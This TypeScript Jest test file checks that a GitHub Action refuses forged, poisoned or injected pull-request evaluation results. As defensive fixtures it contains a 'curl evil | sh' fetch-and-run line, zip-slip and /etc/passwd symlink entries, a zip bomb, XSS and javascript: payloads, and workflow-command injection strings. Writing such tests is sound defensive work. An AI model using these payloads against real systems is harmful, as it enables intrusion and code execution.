// Hostile fixtures, one test each: forged identities, poisoned artifacts, injection, and PRs that
// reach where they must not. Each runs report mode in-process against the OpenAPI-checking mock;
// none may crash, pass silently, or make a request GitHub would not accept.
import { afterEach, describe, expect, it } from '@jest/globals';
import { readdirSync } from 'node:fs';
import { RESULTS_CAPS, type Results } from '../../src/core/results.js';
import { makeZip } from '../helpers/github-api.js';
import {
  COMMUNITY_MANIFEST,
  DOCKERFILE,
  FORK_OWNER,
  HEAD_SHA,
  newAgentChange,
  OFFICIAL_MANIFEST,
  resultsDocument,
  RUN_ID,
  World,
  type WorldOptions,
} from './world.js';

type Obj = Record<string, unknown>;
let world: World | undefined;

async function run(opts: WorldOptions = {}, prepare?: (w: World) => void) {
  world = await World.create(opts);
  prepare?.(world);
  const result = await world.runAction();
  expect(result.error).toBeUndefined();
  return world;
}

afterEach(async () => {
  if (!world) return;
  const w = world;
  world = undefined;
  try {
    w.api.assertConforming();
  } finally {
    await w.close();
  }
});

/** The summary as a reader sees it: Markdown backslash escapes removed. */
function shown(w: World): string {
  return w.summaryText().replace(/\\([\\`*_{}[\]()#+\-.!|~>])/g, '$1');
}

function expectUntrusted(w: World, reason: RegExp): void {
  expect(w.conclusion()).toBe('failure');
  expect((w.completion().output as Obj).title).toBe('failure: results could not be trusted');
  expect(shown(w)).toMatch(reason);
  // Never extracted into the workspace.
  expect(readdirSync(w.root).sort()).toEqual(['agents']);
}

const MALLORY = 'agents/community/mallory-bot';

describe('forged identities', () => {
  it('forged head sha: results claiming another commit are not trusted; the check goes on the event’s sha', async () => {
    const w = await run({ results: resultsDocument({ headSha: 'b'.repeat(40) }) });
    expectUntrusted(w, /results claim head bbbbbbbbbbbb/);
    expect((w.api.requestsFor('checks/create')[0]!.body as Obj).head_sha).toBe(HEAD_SHA);
  });

  it('forged head sha in the artifact metadata', async () => {
    const w = await run({}, (x) => {
      x.opts.artifacts = [
        x.defaultArtifact({
          workflow_run: {
            id: RUN_ID,
            repository_id: 300029405,
            head_repository_id: 300029405,
            head_branch: 'add-bot',
            head_sha: 'b'.repeat(40),
          },
        }),
      ];
    });
    expectUntrusted(w, /made for another commit/);
    expect(w.api.requestsFor('actions/download-artifact')).toHaveLength(0);
  });

  it('forged PR number: numbers in the payload are ignored; the PR is resolved by head sha and cross-checked', async () => {
    const w = await run({ payloadPullNumbers: [99] }, (x) => {
      // An open PR with the same head sha but from another head repository must not match either.
      const impostor = structuredClone(x.pull);
      impostor.number = 13;
      ((impostor.head as Obj).repo as Obj).id = 55555;
      x.opts.extraPulls = [impostor];
    });
    expect(w.api.requests.some((r) => r.path.endsWith('/pulls/99') || r.path.endsWith('/pulls/13'))).toBe(false);
    expect(w.api.requestsFor('pulls/get').every((r) => r.params.pull_number === '12')).toBe(true);
    expect(w.conclusion()).toBe('success');
    expect(w.summaryText()).toContain('pull request #12');
  });

  it('two PRs that both match the run: no PR is chosen and the gates fail', async () => {
    const w = await run({}, (x) => {
      const twin = structuredClone(x.pull);
      twin.number = 14;
      x.opts.extraPulls = [twin];
    });
    expect(w.conclusion()).toBe('failure');
    expect(shown(w)).toMatch(/2 open pull requests \(#\u200b12, #\u200b14\)/);
  });

  it('wrong run id: an artifact of another run is refused, and only this run’s artifacts are listed', async () => {
    const w = await run({}, (x) => {
      x.opts.artifacts = [
        x.defaultArtifact({
          workflow_run: { id: 1, repository_id: 300029405, head_repository_id: 300029405, head_branch: 'add-bot', head_sha: HEAD_SHA },
        }),
      ];
    });
    expectUntrusted(w, /does not belong to run 289782451/);
    expect(w.api.requestsFor('actions/list-workflow-run-artifacts').map((r) => r.params.run_id)).toEqual([String(RUN_ID)]);
  });

  it('the results document naming another run is refused', async () => {
    const w = await run({ results: resultsDocument({ runId: '1' }) });
    expectUntrusted(w, /results claim run 1/);
  });
});

describe('poisoned artifacts', () => {
  it('two artifacts in one attempt', async () => {
    const w = await run({}, (x) => {
      x.opts.artifacts = [x.defaultArtifact(), x.defaultArtifact({ id: 9002 })];
    });
    expectUntrusted(w, /2 artifacts named arena-results\.json in one run attempt/);
    expect(w.api.requestsFor('actions/download-artifact')).toHaveLength(0);
  });

  it('artifacts from an earlier attempt only', async () => {
    const w = await run({ attempt: 2, runStartedAt: '2024-05-01T11:00:00Z' });
    expectUntrusted(w, /no arena-results\.json artifact was uploaded by attempt 2/);
    expect((w.api.requestsFor('checks/create')[0]!.body as Obj).external_id).toBe(`${RUN_ID}:2`);
  });

  it('an earlier attempt’s artifact beside this attempt’s is ignored', async () => {
    const w = await run({ attempt: 2, runStartedAt: '2024-05-01T10:03:00Z' }, (x) => {
      x.opts.artifacts = [x.defaultArtifact({ id: 8000, created_at: '2024-05-01T09:00:00Z' }), x.defaultArtifact()];
    });
    expect(w.conclusion()).toBe('success');
    expect(w.api.requestsFor('actions/download-artifact')[0]!.params.artifact_id).toBe('9001');
  });

  it('an expired artifact', async () => {
    const w = await run({}, (x) => {
      x.opts.artifacts = [x.defaultArtifact({ expired: true })];
    });
    expectUntrusted(w, /has expired/);
  });

  it('an oversized artifact is refused before download (metadata) and while downloading (bytes)', async () => {
    const w = await run({}, (x) => {
      x.opts.artifacts = [x.defaultArtifact({ size_in_bytes: 50 * 1024 * 1024 })];
    });
    expectUntrusted(w, /artifact is 52428800 bytes; the limit is/);
    expect(w.api.requestsFor('actions/download-artifact')).toHaveLength(0);
    await w.close();
    world = undefined;

    // The metadata lies (small); the bytes are not.
    const big = Buffer.alloc(RESULTS_CAPS.documentBytes + 256 * 1024, 0x20);
    const liar = await run({ results: big }, (x) => {
      x.opts.artifacts = [x.defaultArtifact({ size_in_bytes: 1000, digest: null })];
    });
    expectUntrusted(liar, /download is larger than/);
  });

  it('a digest mismatch', async () => {
    const w = await run({}, (x) => {
      x.opts.artifacts = [x.defaultArtifact({ digest: `sha256:${'0'.repeat(64)}` })];
    });
    expectUntrusted(w, /does not match its recorded digest/);
  });

  it('zip-slip: an entry leaving the folder', async () => {
    const zip = makeZip([{ name: '../../arena-results.json', data: JSON.stringify(resultsDocument()) }]);
    const w = await run({ results: zip });
    expectUntrusted(w, /leaves the archive folder/);
    expect(readdirSync(w.dir).sort()).toEqual(['event.json', 'workspace']);
  });

  it('a symlink entry', async () => {
    const zip = makeZip([{ name: 'arena-results.json', data: '/etc/passwd', mode: 0o120777, method: 'store' }]);
    const w = await run({ results: zip });
    expectUntrusted(w, /is a symbolic link/);
  });

  it('extra entries next to the results', async () => {
    const zip = makeZip([
      { name: 'arena-results.json', data: JSON.stringify(resultsDocument()) },
      { name: 'run.sh', data: 'curl evil | sh' },
    ]);
    const w = await run({ results: zip });
    expectUntrusted(w, /has 2 entries; exactly 1/);
  });

  it('a zip bomb: declared size, then a compression ratio no JSON has', async () => {
    const declared = makeZip([{ name: 'arena-results.json', data: '{}', declaredSize: 4 * 1024 * 1024 * 1024 - 1 }]);
    const w = await run({ results: declared });
    expectUntrusted(w, /declares 4294967295 bytes/);
    await w.close();
    world = undefined;

    const zeros = Buffer.alloc(6 * 1024 * 1024, 0x20);
    const bomb = makeZip([{ name: 'arena-results.json', data: zeros }]);
    expect(bomb.length).toBeLessThan(64 * 1024);
    const w2 = await run({ results: bomb });
    expectUntrusted(w2, /compression ratio is over 200:1/);
  });

  it('deep JSON nesting is refused without a crash', async () => {
    const depth = 200_000;
    const deep = `{"schema":"arena.results/v1","run":{"mode":"evaluate","createdAt":"2024-05-01T10:05:00.000Z","arenaVersion":"0.1.0"},"agents":[],"matches":[],"ratings":[],"verdict":{"conclusion":"success","reasons":[]},"x":${'['.repeat(depth)}${']'.repeat(depth)}}`;
    const w = await run({ results: deep });
    expectUntrusted(w, /nested too deeply/);
  });

  it('not JSON, not UTF-8, unknown schema versions', async () => {
    for (const [bytes, reason] of [
      [Buffer.from([0xff, 0xfe, 0x00]), /not UTF-8/],
      [Buffer.from('{"schema":"arena.results/v9"}'), /unknown results schema/],
      [Buffer.from('not json'), /not valid JSON/],
    ] as const) {
      const w = await run({ results: bytes });
      expectUntrusted(w, reason);
      w.api.assertConforming();
      await w.close();
      world = undefined;
    }
  });
});

function failures(n: number, message = 'timed out'): Results['matches'] {
  const matches: Results['matches'] = [];
  for (let m = 0; m * 1000 < n; m += 1) {
    const count = Math.min(1000, n - m * 1000);
    matches.push({
      id: `m${m}`,
      game: 'connect-four',
      agents: ['community/mallory-bot', 'official/random'],
      seed: 100 + m,
      games: Array.from({ length: count }, (_, g) => ({
        index: g,
        seed: 100 + m + Math.floor(g / 2),
        seats: g % 2 === 0 ? ['community/mallory-bot', 'official/random'] : ['official/random', 'community/mallory-bot'],
        ranks: g % 2 === 0 ? [2, 1] : [1, 2],
        failures: [{ agent: 'community/mallory-bot', kind: 'timeout' as const, turn: 3, message }],
        turns: 3,
        durationMs: 5,
      })),
      summary: {
        'community/mallory-bot': { wins: 0, draws: 0, losses: count, failures: { timeout: count } },
        'official/random': { wins: count, draws: 0, losses: 0, failures: {} },
      },
    });
  }
  return matches;
}

describe('annotations', () => {
  it('10,000 failure annotations: created with 50, updated 50 at a time, capped at 1,000, the rest counted in the summary', async () => {
    const w = await run({ results: resultsDocument({ matches: failures(10_000), conclusion: 'failure' }) });
    const requests = w.checkRequests();
    const sizes = requests.map((r) => (((r.body as Obj).output as Obj | undefined)?.annotations as unknown[] | undefined)?.length ?? 0);
    expect(requests[0]!.operationId).toBe('checks/create');
    expect(sizes[0]).toBe(50);
    expect(sizes.every((s) => s <= 50)).toBe(true);
    expect(sizes.reduce((a, b) => a + b, 0)).toBe(1000);
    expect(requests).toHaveLength(1 + 19 + 1);
    expect(w.conclusion()).toBe('failure');
    expect(w.summaryText()).toContain('9000 more annotations were not posted');
    // Seeds and repro commands: odd games swap seats, so the repro names them in that game's order.
    const annotations = w.allAnnotations();
    expect(annotations[0]).toMatchObject({ path: `${MALLORY}/agent.yml`, start_line: 6, end_line: 6, annotation_level: 'failure' });
    expect(String(annotations[0]!.message)).toContain(
      'Reproduce: arena match community/mallory-bot official/random --game connect-four --games 1 --seed 100',
    );
    expect(String(annotations[1]!.message)).toContain(
      'Reproduce: arena match official/random community/mallory-bot --game connect-four --games 1 --seed 100',
    );
    expect(String(annotations[1]!.title)).toBe('timeout in connect-four, game 2, seed 100');
    const text = String((w.completion().output as Obj).text);
    expect(text.length).toBeLessThanOrEqual(65_535);
    expect(text).toContain('truncated');
  });

  it('paths outside the changed agent folders are dropped (artifact) or moved to the summary (recomputed)', async () => {
    const evil = (path: string) => ({ path, line: 3, column: 2, severity: 'error' as const, rule: 'planted', message: `look at ${path}` });
    const results = resultsDocument();
    results.agents[0]!.issues = [
      evil(`${MALLORY}/agent.yml`),
      evil('src/index.ts'),
      evil('agents/community/alice-bot/agent.yml'),
      evil('../../../etc/passwd'),
      evil(`${MALLORY}/../alice-bot/agent.yml`),
      evil('/abs/path'),
      evil(`${MALLORY}\\agent.yml`),
    ];
    const w = await run({
      results,
      files: [...newAgentChange().files!, { filename: '.github/workflows/arena-pr.yml', status: 'modified' }],
    });
    const paths = w.allAnnotations().map((a) => a.path);
    expect(paths.every((p) => String(p).startsWith(`${MALLORY}/`))).toBe(true);
    expect(w.allAnnotations().filter((a) => String(a.title).startsWith('planted'))).toHaveLength(1);
    const summary = w.summaryText();
    expect(summary).toContain('6 findings from the evaluation results pointed outside the changed agent folders and were dropped');
    expect(summary).toContain('### Findings outside the changed agent folders');
    expect(summary).toContain('`touches-trusted-path` `.github/workflows/arena-pr.yml`');
    expect(w.conclusion()).toBe('failure');
  });

  it('Markdown, HTML, @mentions and workflow commands in agent text, file names and branch names do not pass', async () => {
    const hostile =
      '::error file=x::pwned\n##[set-output name=a]b <img src=x onerror=alert(1)> <script>alert(1)</script> @admin @octo-org/core [click](javascript:alert(1)) ![i](https://e.vil/x.png) **bold** 😀 \u202eevil';
    const results = resultsDocument({ matches: failures(2, hostile), conclusion: 'failure' });
    results.matches[0]!.games[0]!.failures[0]!.stderr = hostile;
    results.verdict.reasons = [hostile];
    const w = await run({
      results,
      headBranch: 'feat/<img-src=x>@admin`*_[x](y)',
      files: [...newAgentChange().files!, { filename: '.github/::warning::x<b>@admin.yml', status: 'added' }],
    });
    const completion = w.completion().output as Obj;
    const markdown = `${String(completion.summary)}\n${String(completion.text)}`;
    const plain = w
      .allAnnotations()
      .map((a) => `${String(a.title)}\n${String(a.message)}\n${String(a.raw_details ?? '')}`)
      .join('\n');
    for (const text of [markdown, plain]) {
      expect(text).not.toMatch(/^\s*::/m);
      expect(text).not.toContain('##[');
      expect(text).not.toMatch(/@admin|@octo-org/);
      expect(text).not.toContain('😀');
      expect(text).not.toContain('\u202e');
    }
    expect(plain).toContain('\\u{1f600}');
    // Outside code, HTML and links are escaped; inside fences and code spans, nothing renders.
    const outsideFences = markdown.replace(/^(`{3,})[^\n]*\n[\s\S]*?\n\1$/gm, '').replace(/`[^`\n]*`/g, '');
    expect(outsideFences).not.toMatch(/<img|<script|<b>|\]\(javascript|!\[i\]\(/);
    expect(outsideFences).toContain('&lt;img');
    expect(markdown).toContain('\\u{1f600}');
    // The branch name was only a query parameter; in the summary it is inline code without backticks.
    expect(markdown).toContain('`feat/<img-src=x>@\u200badminˋ*_[x](y)`');
    expect(w.api.requestsFor('pulls/list')).toHaveLength(0);
  });

  it('a manifest the artifact calls docker but that is command at the head sha is rejected at its type line', async () => {
    const manifest = COMMUNITY_MANIFEST('mallory-bot', '0.1.0', 'type: command\n  command: [node, bot.mjs]');
    const w = await run({
      head: { [`${MALLORY}/agent.yml`]: manifest, [`${MALLORY}/bot.mjs`]: '' },
      results: resultsDocument(), // claims: entrypoint docker, status ok, success
    });
    expect(w.conclusion()).toBe('failure');
    const rejected = w.allAnnotations().find((a) => a.title === 'community-command-entrypoint');
    expect(rejected).toMatchObject({ path: `${MALLORY}/agent.yml`, start_line: 7, annotation_level: 'failure' });
    expect(w.summaryText()).toMatch(/\| `community\/mallory-bot` \| added \| .* \| command \|/);
  });
});

describe('PRs reaching where they must not', () => {
  it('a fork adding an official agent fails touches-trusted-path', async () => {
    const folder = 'agents/official/sneaky';
    const w = await run({
      fork: true,
      files: [{ filename: `${folder}/agent.yml`, status: 'added' }],
      head: { [`${folder}/agent.yml`]: OFFICIAL_MANIFEST('sneaky') },
      results: resultsDocument({
        agents: [{ id: 'official/sneaky', tier: 'official', path: folder, version: '1.0.0', status: 'ok', issues: [] }],
        matches: [],
      }),
    });
    expect(w.conclusion()).toBe('failure');
    expect(w.allAnnotations().some((a) => a.title === 'touches-trusted-path' && a.path === `${folder}/agent.yml`)).toBe(true);
    expect(w.api.requestsFor('pulls/list')[0]!.query.head).toBe(`${FORK_OWNER}:add-bot`);
  });

  it('a fork editing arena.yml fails touches-trusted-path (listed in the summary: no agent folder to annotate)', async () => {
    const w = await run({ fork: true, files: [...newAgentChange().files!, { filename: 'arena.yml', status: 'modified' }] });
    expect(w.conclusion()).toBe('failure');
    expect(w.summaryText()).toContain('`touches-trusted-path` `arena.yml`');
    expect(w.allAnnotations().every((a) => String(a.path).startsWith(MALLORY))).toBe(true);
  });

  it('a fork changing someone else’s agent fails not-agent-owner (owner from the last page of the commit history)', async () => {
    const folder = 'agents/community/alice-bot';
    const w = await run({
      fork: true,
      files: [{ filename: `${folder}/agent.yml`, status: 'modified' }],
      head: { [`${folder}/agent.yml`]: COMMUNITY_MANIFEST('alice-bot', '1.0.1'), [`${folder}/Dockerfile`]: DOCKERFILE },
      owners: { [folder]: 'alice' },
      historyLength: { [folder]: 250 },
      results: resultsDocument({
        agents: [{ id: 'community/alice-bot', tier: 'community', path: folder, version: '1.0.1', status: 'ok', issues: [] }],
        matches: [],
      }),
    });
    expect(w.conclusion()).toBe('failure');
    const commits = w.api.requestsFor('repos/list-commits');
    expect(commits.map((r) => r.query.page)).toEqual([undefined, '3']);
    expect(commits[0]!.query).toMatchObject({ path: folder, sha: 'master', per_page: '100' });
    const owner = w.allAnnotations().find((a) => a.title === 'not-agent-owner');
    expect(String(owner!.message)).toContain('belongs to alice');
    expect(w.summaryText()).toContain('`alice`');
  });

  it('an unbumped version (fork) fails version-not-bumped', async () => {
    const w = await run({
      fork: true,
      author: 'alice',
      files: [{ filename: 'agents/community/alice-bot/Dockerfile', status: 'modified' }],
      head: {
        'agents/community/alice-bot/agent.yml': COMMUNITY_MANIFEST('alice-bot', '1.0.0'),
        'agents/community/alice-bot/Dockerfile': DOCKERFILE,
      },
      owners: { 'agents/community/alice-bot': 'alice' },
    });
    expect(w.conclusion()).toBe('failure');
    expect(w.allAnnotations().some((a) => a.title === 'version-not-bumped')).toBe(true);
    expect(w.allAnnotations().some((a) => a.title === 'not-agent-owner')).toBe(false);
  });

  it('a Dockerfile at the head sha that pulls from the network is found without building anything', async () => {
    const w = await run({
      head: {
        ...newAgentChange().head!,
        [`${MALLORY}/Dockerfile`]: '# syntax=docker/dockerfile:1\nFROM evil/image:latest\nADD https://e.vil/x /x\n',
      },
    });
    expect(w.conclusion()).toBe('failure');
    const rules = w.allAnnotations().map((a) => a.title);
    expect(rules).toEqual(expect.arrayContaining(['remote-build-input', 'unpinned-base-image']));
    expect(w.allAnnotations().every((a) => String(a.path).startsWith(`${MALLORY}/`))).toBe(true);
  });
});

describe('HEAD_SHA', () => {
  it('is a 40-hex sha (fixture sanity)', () => {
    expect(HEAD_SHA).toMatch(/^[0-9a-f]{40}$/);
  });
});

describe('the check text names the replay viewer', () => {
  it('each failing game with a replay: its page in the arena-logs artifact of the evaluation run; a path of another shape names none', async () => {
    const matches = failures(3);
    matches[0]!.games[0]!.replay = 'replays/m0/game-0001.json';
    matches[0]!.games[1]!.replay = 'replays/m0/`](javascript:alert(1))<script>.json';
    const w = await run({ results: resultsDocument({ matches, conclusion: 'failure' }) });
    const text = String((w.completion().output as Obj).text);
    expect(text).toContain('Watch it: `replays/m0/game-0001.html` in the `arena-logs` artifact of the evaluation run');
    expect(text).toMatch(
      /Replay pages \(one self-contained HTML file per failing game, open it in a browser\) are in the `arena-logs` artifact of \[evaluation run \d+/,
    );
    // a path of another shape names no page (and none reaches the text)
    expect(text).not.toContain('javascript:');
    expect(text).not.toContain('<script>');
    // nor does a game without a replay file
    expect(text.split('Watch it:')).toHaveLength(2);
  });
});
